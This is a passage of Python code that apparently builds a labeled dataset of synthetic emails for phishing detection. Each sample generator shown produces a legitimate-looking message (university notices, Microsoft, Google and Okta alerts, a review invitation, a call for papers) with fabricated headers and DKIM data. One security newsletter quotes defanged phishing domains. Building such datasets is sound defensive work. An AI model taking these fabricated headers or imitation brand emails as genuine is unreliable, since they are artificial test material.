        "from its own domain (SPF/DKIM/DMARC pass), links only to the university's status page and ENT")
def l_maintenance(I: Ids) -> bytes:
    sent = T("2023-06-12 12:05:41")
    mbx = U_MBX[1]
    subject = encq("[Personnels] Maintenance de la messagerie et de l'ENT – jeudi 15 juin, 18h-22h")
    author = exchange_author(I, sent, mbx, f"{encq('DNum - Direction du numérique')} <dnum-info@univ-montforez.fr>",
                             "personnels@listes.univ-montforez.fr", subject, lang="fr-FR",
                             thread_topic=encq("Maintenance de la messagerie et de l'ENT – jeudi 15 juin, 18h-22h"))
    author += sympa_headers(I, "personnels", 412, "Liste de diffusion des personnels")
    origin, c = sympa_origin(I, sent, author, "personnels", CLAIRE)
    text_fr = ("Bonjour,\n\nUne opération de maintenance est programmée le jeudi 15 juin 2023 de 18h à 22h sur les services suivants :\n"
               "- ENT (https://ent.univ-montforez.fr) : indisponible pendant toute la durée de l'intervention ;\n"
               "- Messagerie : la réception des messages sera différée de quelques minutes, aucun message ne sera perdu ;\n"
               "- Moodle et Apogée ne sont pas concernés.\n\n"
               "L'état des services est consultable en temps réel sur https://dnum.univ-montforez.fr/etat-des-services\n\n"
               "Aucune action n'est attendue de votre part. La DNum ne vous demandera jamais votre mot de passe par courriel.\n\n"
               "--- English version ---\n\nScheduled maintenance on Thursday 15 June 2023, 6-10 pm: the ENT will be unavailable and "
               "incoming mail may be delayed by a few minutes. No action is required on your part.\n\n"
               "Direction du numérique - Université de Montforez\nAssistance : 04 77 42 18 00 - https://assistance.univ-montforez.fr\n")
    html = outlook_html("".join(f"<p>{l or '<br>'}</p>" for l in text_fr.rstrip().split("\n"))
                        .replace("https://ent.univ-montforez.fr", '<a href="https://ent.univ-montforez.fr">https://ent.univ-montforez.fr</a>')
                        .replace("https://dnum.univ-montforez.fr/etat-des-services", '<a href="https://dnum.univ-montforez.fr/etat-des-services">https://dnum.univ-montforez.fr/etat-des-services</a>'))
    body = alt(outlook_boundary(I, mbx), text_fr, html)
    return deliver(I, sent + timedelta(seconds=3), CLAIRE, c, origin, body, {"bcl": 3})


@sample("bulk", "b10-bulk-mfa-enrolment-noreply",
        "MFA enrolment reminder from the university's no-reply address, relayed by its own outbound server with DKIM; "
        "points to the university's SSO and Microsoft's genuine aka.ms/mfasetup, says IT never asks for passwords")
def l_mfa(I: Ids) -> bytes:
    sent = T("2024-09-02 06:30:04")
    user = "ne-pas-repondre@univ-montforez.fr"
    subject = encq("[Action requise] Activez l'authentification multifacteur avant le 30 septembre")
    author = kit_author(I, sent, f"{encq('Direction du numérique')} <{user}>", ISABELLE, subject, "Europe/Paris",
                        mid_domain="ent-app03.univ-montforez.fr",
                        extra=["Auto-Submitted: auto-generated", "X-Auto-Response-Suppress: All", "Content-Language: fr"])
    lines = ["Bonjour Isabelle Caron,", "",
             "À partir du 30 septembre 2024, l'authentification multifacteur (MFA) sera obligatoire pour accéder à la messagerie, "
             "à Teams et à l'ENT depuis l'extérieur de l'université. Votre compte n'a pas encore de méthode enregistrée.", "",
             "Pour l'activer (5 minutes) :",
             "1. Installez l'application Microsoft Authenticator sur votre téléphone ;",
             "2. Connectez-vous sur https://aka.ms/mfasetup avec votre identifiant universitaire ;",
             "3. Suivez le guide pas à pas : https://dnum.univ-montforez.fr/guides/mfa", "",
             "Vous pouvez aussi passer par le portail https://sso.univ-montforez.fr/mfa qui vous redirige vers la même page.", "",
             "Rappel : la DNum ne vous demandera jamais votre mot de passe ni un code de validation par courriel ou par téléphone. "
             "N'approuvez jamais une demande de connexion que vous n'avez pas initiée.", "",
             "Besoin d'aide ? https://assistance.univ-montforez.fr ou 04 77 42 18 00.", "",
             "Direction du numérique", "Université de Montforez"]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(f"<p>{linkify(l)}</p>" for l in lines if l), "fr")
    hops = [f"Received: from ent-app03.univ-montforez.fr (ent-app03.univ-montforez.fr [193.52.104.61])\n"
            f"\tby smtp-out.univ-montforez.fr (Postfix) with ESMTP id {I.hex('mfq', 10, upper=True)}\n\tfor <{ISABELLE}>; {rfc(sent, 'Europe/Paris', paren=True)}",
            dkim(I, UNIV, "smtp2024", "From:To:Subject:Date:Message-ID", sent)]
    c = Conn("193.52.104.36", "smtp-out.univ-montforez.fr", user, "pass", [("pass", UNIV, "smtp2024")], "pass", UNIV,
             "QUARANTINE", country="FR", lang="fr")
    return deliver(I, sent + timedelta(seconds=2), ISABELLE, c, "\n".join(hops + author),
                   alt(f"=_{I.hex('mfab', 32)}", plain, html), {"bcl": 2})


@sample("bulk", "b10-bulk-security-newsletter-quotes-phish",
        "The university security team's quarterly awareness newsletter on its Sympa list: it quotes this quarter's phishing "
        "(defanged weebly/pages.dev links, fake RA jobs, gift-card requests) but itself links only to the university's pages")
def l_newsletter(I: Ids) -> bytes:
    sent = T("2025-03-18 09:00:12")
    mbx = U_MBX[2]
    subject = encq("[Info-sécurité] Lettre sécurité n°14 – les hameçonnages du trimestre")
    author = exchange_author(I, sent, mbx, f"{encq('RSSI - Université de Montforez')} <securite-numerique@univ-montforez.fr>",
                             "info-securite@listes.univ-montforez.fr", subject, lang="fr-FR",
                             thread_topic=encq("Lettre sécurité n°14 – les hameçonnages du trimestre"))
    author += sympa_headers(I, "info-securite", 14, "Lettre sécurité numérique")
    origin, c = sympa_origin(I, sent, author, "info-securite", MARC)
    html = outlook_html(
        '<h2 style="color:#7a1e3a">Lettre sécurité n°14 – mars 2025</h2>'
        '<p>Ce trimestre, vous nous avez transmis <b>312 signalements</b> à <a href="mailto:signalement-phishing@univ-montforez.fr">signalement-phishing@univ-montforez.fr</a>. Merci ! Voici les cas les plus fréquents.</p>'
        '<h3>1. « Votre boîte aux lettres a atteint sa limite »</h3>'
        '<p>Message signé « ITS Service Desk », envoyé depuis le compte piraté d\'une autre université, avec un lien vers '
        '<code>hxxps://owa-storage-upgrade-2022[.]weebly[.]com</code>. Notre messagerie n\'a pas de quota à « augmenter » par un lien.</p>'
        '<h3>2. Mot de passe « qui expire aujourd\'hui »</h3>'
        '<p>Page imitant notre SSO hébergée sur <code>univ-montforez-sso[.]pages[.]dev</code>. Notre seule page de connexion est '
        '<a href="https://sso.univ-montforez.fr">sso.univ-montforez.fr</a> : vérifiez l\'adresse avant de saisir votre mot de passe.</p>'
        '<h3>3. Fausses offres d\'assistant de recherche</h3>'
        '<p>Un « professeur » écrivant depuis Gmail propose 400 $ par semaine pour des « courses » et envoie un chèque à encaisser. '
        'Les vrais contrats étudiants passent par la DRH et <a href="https://univ-montforez.jobteaser.com">JobTeaser</a>.</p>'
        '<h3>4. « Es-tu disponible ? »</h3>'
        '<p>Des adresses Gmail au nom de la doyenne demandent des cartes cadeaux. En cas de doute, appelez la personne sur son numéro habituel.</p>'
        '<h3>5. QR codes et demandes d\'approbation MFA</h3>'
        '<p>N\'approuvez jamais une notification Authenticator que vous n\'avez pas déclenchée, et ne scannez pas un QR code reçu par '
        'courriel pour « réactiver » votre compte.</p>'
        '<p>Tous les exemples sont sur la page <a href="https://dnum.univ-montforez.fr/securite/alertes">Alertes hameçonnage</a>.</p>'
        '<p>Thomas Girardin, RSSI<br>Direction du numérique</p>')
    plain = ("Lettre sécurité n°14 - mars 2025\n\nCe trimestre, vous nous avez transmis 312 signalements à signalement-phishing@univ-montforez.fr. Merci !\n\n"
             "1. « Votre boîte aux lettres a atteint sa limite » - lien vers hxxps://owa-storage-upgrade-2022[.]weebly[.]com\n"
             "2. Mot de passe « qui expire aujourd'hui » - page sur univ-montforez-sso[.]pages[.]dev ; notre seule page de connexion est https://sso.univ-montforez.fr\n"
             "3. Fausses offres d'assistant de recherche (Gmail, chèque à encaisser)\n"
             "4. « Es-tu disponible ? » - cartes cadeaux au nom de la doyenne\n"
             "5. QR codes et demandes d'approbation MFA\n\n"
             "Tous les exemples : https://dnum.univ-montforez.fr/securite/alertes\n\nThomas Girardin, RSSI\nDirection du numérique\n")
    return deliver(I, sent + timedelta(seconds=3), MARC, c, origin, alt(outlook_boundary(I, mbx), plain, html), {"bcl": 3})


@sample("bulk", "b10-bulk-microsoft-account-unusual-signin",
        "Genuine Microsoft account 'unusual sign-in activity' alert to an alumnus's outlook.com mailbox from "
        "accountprotection.microsoft.com (DKIM/DMARC pass), links only to account.live.com and go.microsoft.com")
def l_ms_signin(I: Ids) -> bytes:
    sent = T("2023-05-22 07:43:18")
    dom = "accountprotection.microsoft.com"
    user = f"account-security-noreply@{dom}"
    mid = f"<{I.hex('msacc', 8, upper=True)}-{I.hex('msacc2', 4, upper=True)}-{I.hex('msacc3', 4, upper=True)}@BL02EPF0001A0FC.namprd09.prod.outlook.com>"
    author = [f"From: Microsoft account team <{user}>", f"To: {ANTOINE}", "Subject: Microsoft account unusual sign-in activity",
              f"Date: {rfc(sent, pad=False)}", f"Message-ID: {mid}", "X-MSAPipeline: MessageDispatcher", "MIME-Version: 1.0",
              "X-MSAMetaData: " + I.b64("msameta", 60)]
    plain = ("Microsoft account\nUnusual sign-in activity\n\nWe detected something unusual about a recent sign-in to the Microsoft account "
             "an*****@outlook.com.\n\nSign-in details\nCountry/region: Germany\nIP address: 95.90.214.37\nDate: 5/22/2023 7:38 AM (GMT)\n"
             "Platform: Windows 10\nBrowser: Firefox\n\nPlease go to your recent activity page to let us know whether or not this was you. "
             "If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.\n\n"
             "Review recent activity: https://account.live.com/Activity\n\nTo opt out or change where you receive security notifications, "
             "click here: https://account.live.com/SecurityNotifications/Update\n\nThanks,\nThe Microsoft account team\n")
    html = ('<html dir="ltr"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<table dir="ltr"><tr><td style="padding:0;font-family:\'Segoe UI Semibold\',\'Segoe UI Bold\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>'
            '<tr><td style="padding:0;font-family:\'Segoe UI Light\',\'Segoe UI\',\'Helvetica Neue Medium\',Arial,sans-serif;font-size:41px;color:#2672ec;">Unusual sign-in activity</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            'We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:an*****@outlook.com">an*****@outlook.com</a>.</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            '<b>Sign-in details</b><br>Country/region: Germany<br>IP address: 95.90.214.37<br>Date: 5/22/2023 7:38 AM (GMT)<br>Platform: Windows 10<br>Browser: Firefox</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            'Please go to your recent activity page to let us know whether or not this was you. If this wasn\'t you, we\'ll help you secure your account. If this was you, we\'ll trust similar activity in the future.</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;"><table border="0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-color:#2672ec;padding:5px 20px;">'
            '<a style="font-family:\'Segoe UI Semibold\',Arial,sans-serif;font-size:14px;text-align:center;text-decoration:none;font-weight:600;letter-spacing:0.02em;color:#fff;" href="https://account.live.com/Activity">Review recent activity</a></td></tr></table></td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">'
            'To opt out or change where you receive security notifications, <a style="color:#2672ec;text-decoration:none;" href="https://account.live.com/SecurityNotifications/Update">click here</a>.</td></tr>'
            '<tr><td style="padding:0;padding-top:25px;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">Thanks,</td></tr>'
            '<tr><td style="padding:0;font-family:\'Segoe UI\',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">The Microsoft account team</td></tr></table>'
            '<table><tr><td style="padding:0;padding-top:25px;font-size:12px;color:#666;">Microsoft respects your privacy. To learn more, please read our '
            '<a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></body></html>\n')
    arc = ms_arc(I, sent, dom, dom)
    hops = [dkim(I, dom, "selector1", "From:To:Subject:Date:Message-ID:Content-Type:MIME-Version", style="ms"),
            fold(f"Received: from BL02EPF0001A0FC.namprd09.prod.outlook.com ({ipv6(I, 'msa1', 'NAM')}) by BL1PR09MB5212.namprd09.prod.outlook.com ({ipv6(I, 'msa2', 'NAM')}) "
                 f"with Microsoft SMTP Server (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {ms_version(sent, I, 'msa')}; {rfc(sent)}")]
    c = Conn(f"40.107.{I.num('msaip', 200, 240)}.{I.num('msaip2', 2, 250)}", "NAM10-BN7-obe.outbound.protection.outlook.com", user,
             "pass", [("pass", dom, "selector1")], "pass", dom, "REJECT")
    return deliver(I, sent + timedelta(seconds=2), ANTOINE, c, "\n".join(arc + hops + author),
                   alt(f"=_{I.hex('msab', 32)}", plain, html, enc_html="quoted-printable"), {"scl": -1})


def google_notification_origin(I: Ids, sent: datetime, frm: str, to: str, subject: str, dkim_d: str, bounce: str,
                               extra: list[str], mid: str, reply_to: str = "") -> tuple[str, Conn]:
    """A Google-generated notification (accounts, Docs) as it leaves Google's own senders."""
    octet = I.num("gn-oct", 41, 73)
    lines = [dkim(I, dkim_d, "20230601", "to:from:subject:message-id:feedback-id:date:mime-version:from:to:cc:subject:date:message-id:reply-to",
                  sent, "google", extra=f" x={int(sent.timestamp()) + 604800};"),
             f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s=20230601; t={int(sent.timestamp())}; x={int(sent.timestamp()) + 604800};\n"
             f"        h=to:from:subject:message-id:feedback-id:date:mime-version:x-gm-message-state:from:to:cc:subject:date:message-id:reply-to;\n"
             f"        bh={bh(I, dkim_d)};\n        b=" + "\n        ".join(chunks(I.b64("gn-xg", 344), 71)),
             f"X-Gm-Message-State: AOJu0Y{I.b64('gn-state', 60)}",
             f"X-Google-Smtp-Source: AGHT+I{I.b64('gn-src', 80)}",
             "MIME-Version: 1.0",
             f"X-Received: by 2002:a05:{I.hex('gnx1', 4)}:{I.hex('gnx2', 4)}:b0:{I.hex('gnx3', 3)}:{I.hex('gnx4', 4)}:{I.hex('gnx5', 4)} with SMTP id "
             f"{I.letters('gnx6', 2)}{I.num('gnx7', 1000000, 9999999)}-{I.hex('gnx8', 8)}.{I.num('gnx9', 1, 99)}.{int(sent.timestamp() * 1000)}; "
             f"{rfc(sent, 'America/Los_Angeles', pad=True, paren=True)}",
             f"Date: {rfc(sent, pad=True)}"]
    if reply_to:
        lines.append(f"Reply-To: {reply_to}")
    lines += extra + [f"Message-ID: {mid}", f"Subject: {subject}", f"From: {frm}", f"To: {to}"]
    c = Conn(f"209.85.220.{octet}", f"mail-sor-f{octet}.google.com", bounce, "pass", [("pass", dkim_d, "20230601")], "pass",
             dkim_d, "REJECT")
    c.google_external = False  # type: ignore[attr-defined]
    return "\n".join(lines), c


@sample("bulk", "b10-bulk-google-security-alert",
        "Genuine Google 'Security alert: new sign-in on Mac' to an alumna's Gmail, delivered from Google's own senders "
        "(DKIM accounts.google.com, DMARC pass), links to accounts.google.com and myaccount.google.com only")
def l_google_alert(I: Ids) -> bytes:
    sent = T("2024-02-26 18:12:37")
    ts = int(sent.timestamp() * 1000)
    eid = I.b64url("gaeid", 22)
    link = (f"https://accounts.google.com/AccountChooser?Email={CAMILLE}&continue=https://myaccount.google.com/alert/nt/{ts}"
            f"?rfn%3D325%26rfnc%3D1%26eid%3D{eid}%26et%3D0")
    origin, c = google_notification_origin(
        I, sent, "Google <no-reply@accounts.google.com>", CAMILLE, "Security alert", "accounts.google.com",
        f"3{I.b64url('gabounce', 30)}@gaia.bounces.google.com",
        ["X-Account-Notification-Type: 127", "Feedback-ID: 127:account-notifier", f"X-Notifications: {I.hex('gan', 16)}",
         f"X-Notifications-Bounce-Info: A{I.b64url('ganb', 60)}"],
        f"<{I.b64url('gamid', 22)}@notifications.google.com>")
    plain = (f"[image: Google]\nA new sign-in on Mac\n\n\n{CAMILLE}\nWe noticed a new sign-in to your Google Account on a Mac device. "
             "If this was you, you don't need to do anything. If not, we'll help you secure your account.\n"
             f"Check activity\n<{link}>\nYou can also see security activity at\nhttps://myaccount.google.com/notifications\n"
             "You received this email to let you know about important changes to your Google Account and services.\n"
             "© 2024 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\n")
    html = ('<!DOCTYPE html><html lang="en"><head><meta name="format-detection" content="email=no"/><meta name="format-detection" content="date=no"/>'
            '<style nonce="' + I.b64url("ganonce", 22) + '">.awl a {color: #FFFFFF; text-decoration: none;}</style></head>'
            '<body style="margin: 0; padding: 0;" bgcolor="#FFFFFF"><table width="100%" height="100%" style="min-width: 348px;" border="0" cellspacing="0" cellpadding="0" lang="en">'
            '<tr height="32" style="height: 32px;"><td></td></tr><tr align="center"><td><div><div></div></div>'
            '<table border="0" cellspacing="0" cellpadding="0" style="padding-bottom: 20px; max-width: 516px; min-width: 220px;"><tr><td>'
            '<div style="border-style: solid; border-width: thin; border-color:#dadce0; border-radius: 8px; padding: 40px 20px;" align="center">'
            '<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" aria-hidden="true" style="margin-bottom: 16px;" alt="Google">'
            '<div style="font-family: \'Google Sans\',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom: thin solid #dadce0; color: rgba(0,0,0,0.87); line-height: 32px; padding-bottom: 24px;text-align: center; word-break: break-word;">'
            f'<div style="font-size: 24px;">A new sign-in on Mac </div><table align="center" style="margin-top:8px;"><tr style="line-height: normal;"><td><a style="font-family: \'Google Sans\',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.87); font-size: 14px; line-height: 20px;">{CAMILLE}</a></td></tr></table></div>'
            '<div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif; font-size: 14px; color: rgba(0,0,0,0.87); line-height: 20px;padding-top: 20px; text-align: center;">'
            'We noticed a new sign-in to your Google Account on a Mac device. If this was you, you don\'t need to do anything. If not, we\'ll help you secure your account.'
            f'<div style="padding-top: 32px; text-align: center;"><a href="{link}" target="_blank" link-id="main-button-link" style="font-family: \'Google Sans\',Roboto,RobotoDraft,Helvetica,Arial,sans-serif; line-height: 16px; color: #ffffff; font-weight: 400; text-decoration: none;font-size: 14px;display:inline-block;padding: 10px 24px;background-color: #4184F3; border-radius: 5px; min-width: 90px;">Check activity</a></div></div>'
            '<div style="padding-top: 20px; font-size: 12px; line-height: 16px; color: #5f6368; letter-spacing: 0.3px; text-align: center">You can also see security activity at<br><a style="color: rgba(0, 0, 0, 0.87);text-decoration: inherit;">https://myaccount.google.com/notifications</a></div></div>'
            '<div style="text-align: left;"><div style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;">'
            '<div>You received this email to let you know about important changes to your Google Account and services.</div>'
            '<div style="direction: ltr;">&copy; 2024 Google LLC, <a class="afal" style="font-family: Roboto-Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px; padding-top: 12px; text-align: center;">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</a></div></div></div>'
            '</td></tr></table></td></tr><tr height="32" style="height: 32px;"><td></td></tr></table></body></html>\n')
    body = alt(gmail_boundary(I), plain, html, "UTF-8", enc_html="quoted-printable")
    return deliver(I, sent + timedelta(seconds=1), CAMILLE, c, origin, body)


@sample("bulk", "b10-bulk-okta-activation",
        "Genuine Okta 'Welcome to Okta! activate your account' for a new institute staff member, sent by Okta through "
        "SendGrid (DKIM okta.com, DMARC pass), links to the institute's real tenant disn-research.okta.com")
def l_okta(I: Ids) -> bytes:
    sent = T("2024-01-08 08:02:55")
    token = I.b64url("oktok", 20)
    link = f"https://disn-research.okta.com/welcome/drpa{token}"
    author = kit_author(I, sent, f"Okta <noreply@okta.com>", DAVID, "Welcome to Okta!", "UTC", mid_domain="okta.com",
                        mid=f"{I.num('okm', 10**12, 10**13)}.{I.num('okm2', 1000, 9999)}.{int(sent.timestamp() * 1000)}.JavaMail.app",
                        extra=["X-Okta-Template: ActivationEmail", "Auto-Submitted: auto-generated"])
    lines = ["Hi David,", "",
             "Your organization is using Okta to manage your web applications. This means you can conveniently access all the "
             "applications you normally use, through a single, secure home page. Watch this short video to learn more: "
             "https://www.okta.com/intro-to-okta/", "",
             "Your system administrator has created an Okta user account for you.", "",
             "Click the following link to activate your Okta account:", link, "",
             "This link expires in 7 days.", "",
             f"Your username is {DAVID}", "Your organization's sign-in page is https://disn-research.okta.com", "",
             "If you experience difficulties accessing your account, send a help request to your administrator:",
             "Go to https://disn-research.okta.com/help/login", "",
             "This is an automatically generated message from Okta. Replies are not monitored or answered."]
    plain = "\n".join(lines) + "\n"
    html = html_doc("".join(
        f"<p>{l}</p>" if not l.startswith("https://disn-research.okta.com/welcome") else
        f'<p><a href="{l}" style="background:#1662dd;color:#fff;padding:9px 20px;text-decoration:none">Activate Okta Account</a></p>'
        for l in lines if l).replace("https://www.okta.com/intro-to-okta/", '<a href="https://www.okta.com/intro-to-okta/">https://www.okta.com/intro-to-okta/</a>'))
    sg = [f"Received: by filterdrecv-{I.hex('oksf', 10)}-{I.lower('oksf2', 5)} with SMTP id filterdrecv-{I.hex('oksf', 10)}-{I.lower('oksf2', 5)}-1-{I.hex('oksf3', 8, upper=True)}-{I.num('oksf4', 10, 99)}\n"
          f"        {rfc(sent, pad=True)} (UTC)",
          f"Received: from okta.com (unknown)\n\tby geopod-ismtpd-{I.num('oksg', 1, 40)} (SG) with ESMTP\n\tid {I.b64url('oksid', 22)}\n\tfor <{DAVID}>; {rfc(sent, pad=True)} (UTC)",
          dkim(I, "okta.com", "s1", "content-type:from:mime-version:subject:to:cc:content-type:from:subject:to", sent),
          f"X-SG-EID: \n {I.b64('okeid', 76)}", f"X-SG-ID: \n {I.b64('okid2', 76)}"]
    c = Conn(f"149.72.{I.num('okip', 1, 250)}.{I.num('okip2', 1, 250)}", f"o{I.num('oko', 1, 9)}.ptr{I.num('okptr', 1000, 9999)}.email.okta.com",
             f"bounces+{I.num('okb', 10000000, 99999999)}-{I.hex('okbh', 4)}-{DAVID.replace('@', '=')}@email.okta.com",
             "pass", [("pass", "okta.com", "s1"), ("pass", "sendgrid.info", "smtpapi")], "pass", "okta.com", "REJECT")
    return deliver(I, sent + timedelta(seconds=2), DAVID, c, "\n".join(sg + author), alt(f"{I.hex('okbnd', 64)}", plain, html))


@sample("clean", "b10-bulk-scholarone-review-invite",
        "Genuine ScholarOne Manuscripts review invitation (onbehalfof@manuscriptcentral.com, Reply-To the handling "
        "editor), agree/decline links on mc.manuscriptcentral.com, abstract included, no login requested in the mail")
def l_scholarone(I: Ids) -> bytes:
    sent = T("2023-09-05 13:47:02")
    user = "onbehalfof@manuscriptcentral.com"
    subject = "Invitation to Review Manuscript ID JCNM-2023-0188 for Journal of Computational Neuroscience Methods"
    mask = lambda k: f"https://mc.manuscriptcentral.com/jcnm?URL_MASK={I.hex('mask' + k, 32)}"  # noqa: E731
    author = kit_author(I, sent, f"Journal of Computational Neuroscience Methods <{user}>", TOMASZ, subject, "America/New_York",
                        reply_to="anna.lindqvist@ki-neurometh.se", mid_domain="manuscriptcentral.com",
                        mid=f"{I.num('s1mid', 10**9, 10**10)}.{I.num('s1mid2', 100, 999)}.{int(sent.timestamp() * 1000)}.JavaMail.root@mc-prod-{I.num('s1h', 10, 40)}",
                        extra=[f"Sender: {user}", "X-Ms-Id: 4581002", "X-Ms-Email-Type: Invite Reviewer"])
    plain = ("05-Sep-2023\n\nDear Dr. Wisniewski:\n\n"
             'The manuscript entitled "Estimating dendritic integration windows from sparse two-photon recordings" has been submitted to '
             "the Journal of Computational Neuroscience Methods. I would be grateful if you would agree to review this manuscript. The abstract "
             "appears at the end of this letter.\n\nPlease let me know as soon as possible if you will be able to accept my invitation to review. "
             "To do this please either click the appropriate link below to automatically register your reply with our online manuscript "
             "submission and review system, or e-mail me with your reply.\n\n*** PLEASE NOTE: This is a two-step process. After clicking on the "
             "link, you will be directed to a webpage to confirm. ***\n\n"
             f"Agreed: {mask('a')}\n\nDeclined: {mask('d')}\n\nUnavailable: {mask('u')}\n\n"
             "Should you accept my invitation to review this manuscript, you will be notified via e-mail about how to access ScholarOne "
             "Manuscripts, our online manuscript submission and review system. You will then have access to the manuscript and reviewer "
             "instructions in your Reviewer Center.\n\nI realize that our expert reviewers greatly contribute to the high standards of the "
             "Journal, and I thank you for your present and/or future participation.\n\nSincerely,\nDr. Anna Lindqvist\nAssociate Editor, "
             "Journal of Computational Neuroscience Methods\nanna.lindqvist@ki-neurometh.se\n\n"
             "MANUSCRIPT DETAILS\n\nABSTRACT: Dendritic integration windows shape how neurons combine synaptic input, yet they are rarely "
             "measured directly in vivo. We present a Bayesian method that infers branch-specific integration windows from sparse two-photon "
             "calcium recordings and validate it on simulated and experimental data from mouse layer 2/3 pyramidal neurons.\n")
    html = html_doc("<pre style=\"font-family:Arial;white-space:pre-wrap\">" +
                    plain.replace(mask("a"), f'<a href="{mask("a")}">{mask("a")}</a>').replace(mask("d"), f'<a href="{mask("d")}">{mask("d")}</a>')
                    .replace(mask("u"), f'<a href="{mask("u")}">{mask("u")}</a>') + "</pre>")
    hops = [f"Received: from mc-prod-{I.num('s1h', 10, 40)}.manuscriptcentral.com (localhost [127.0.0.1])\n\tby mta-out{I.num('s1m', 1, 4)}.manuscriptcentral.com (Postfix) with ESMTP id {I.hex('s1q', 10, upper=True)}\n"
            f"\tfor <{TOMASZ}>; {rfc(sent, 'America/New_York', paren=True)}",
            dkim(I, "manuscriptcentral.com", "mc2022", "From:To:Subject:Date:Message-ID:Reply-To", sent)]
    c = Conn(f"52.45.{I.num('s1ip', 1, 250)}.{I.num('s1ip2', 2, 250)}", f"mta-out{I.num('s1m', 1, 4)}.manuscriptcentral.com", user, "pass",
             [("pass", "manuscriptcentral.com", "mc2022")], "pass", "manuscriptcentral.com", "NONE")
    return deliver(I, sent + timedelta(seconds=2), TOMASZ, c, "\n".join(hops + author), alt(f"----=_Part_{I.num('s1b', 100000, 999999)}_{I.num('s1b2', 10**8, 10**9)}.{int(sent.timestamp() * 1000)}", plain, html))


@sample("bulk", "b10-bulk-cfp-mailman-list",
        "Call for papers for a dendritic-computation workshop posted to a Mailman 3 announcement list (From rewritten "
        "'via comp-neuro', list DKIM pass), links to the workshop site and EasyChair only")
def l_cfp(I: Ids) -> bytes:
    sent = T("2025-01-21 15:20:33")
    lst = "comp-neuro@lists.esnc.eu"
    subject = "[comp-neuro] CfP: 6th Workshop on Dendritic Computation (DendComp 2025), Rijeka, 17-19 Sept - deadline 15 April"
    mid = f"<{I.hex('cfpmid', 8)}-{I.hex('cfpmid2', 4)}-{I.hex('cfpmid3', 4)}@unikvarner.hr>"
    hsh = I.alnum("cfphash", 32, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")
    author = [f"From: Ana Kovacevic via comp-neuro <{lst}>", f"To: {lst}", f"Subject: {subject}", f"Date: {rfc(sent, 'Europe/Zagreb')}",
              f"Message-ID: {mid}", "MIME-Version: 1.0", "User-Agent: Mozilla Thunderbird", "Content-Language: en-US",
              f"Message-ID-Hash: {hsh}", f"X-Message-ID-Hash: {hsh}", "X-MailFrom: ana.kovacevic@unikvarner.hr",
              "X-Mailman-Rule-Misses: dmarc-mitigation; no-senders; approved; loop; banned-address; emergency; member-moderation; "
              "nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header",
              "X-Mailman-Version: 3.3.9", "Precedence: list", "Reply-To: Ana Kovacevic <ana.kovacevic@unikvarner.hr>",
              'List-Id: "Computational neuroscience announcements" <comp-neuro.lists.esnc.eu>',
              f"Archived-At: <https://lists.esnc.eu/hyperkitty/list/{lst}/message/{hsh}/>",
              f"List-Archive: <https://lists.esnc.eu/hyperkitty/list/{lst}/>",
              "List-Help: <mailto:comp-neuro-request@lists.esnc.eu?subject=help>",
              "List-Owner: <mailto:comp-neuro-owner@lists.esnc.eu>", f"List-Post: <mailto:{lst}>",
              "List-Subscribe: <mailto:comp-neuro-join@lists.esnc.eu>", "List-Unsubscribe: <mailto:comp-neuro-leave@lists.esnc.eu>"]
    plain = ("Dear colleagues,\n\n(apologies for cross-posting)\n\nWe are pleased to announce the 6th Workshop on Dendritic Computation "
             "(DendComp 2025), to be held at the University of Kvarner, Rijeka, Croatia, on 17-19 September 2025.\n\n"
             "Topics include, but are not limited to:\n - active dendritic conductances and nonlinear integration\n - compartmental and "
             "reduced models\n - dendritic computation in learning and plasticity\n - imaging and electrophysiology of dendrites\n"
             " - dendrites in artificial neural networks\n\nWe invite 2-page extended abstracts for oral or poster presentation.\n\n"
             "Important dates\n - Abstract submission: 15 April 2025\n - Notification: 31 May 2025\n - Registration: 30 June 2025\n\n"
             "Submission via EasyChair: https://easychair.org/conferences/?conf=dendcomp2025\nWorkshop website: https://www.dendcomp.org/2025/\n\n"
             "Keynote speakers: Yiota Poirazi (IMBB-FORTH), Matthew Larkum (Humboldt University Berlin), Jackie Schiller (Technion).\n\n"
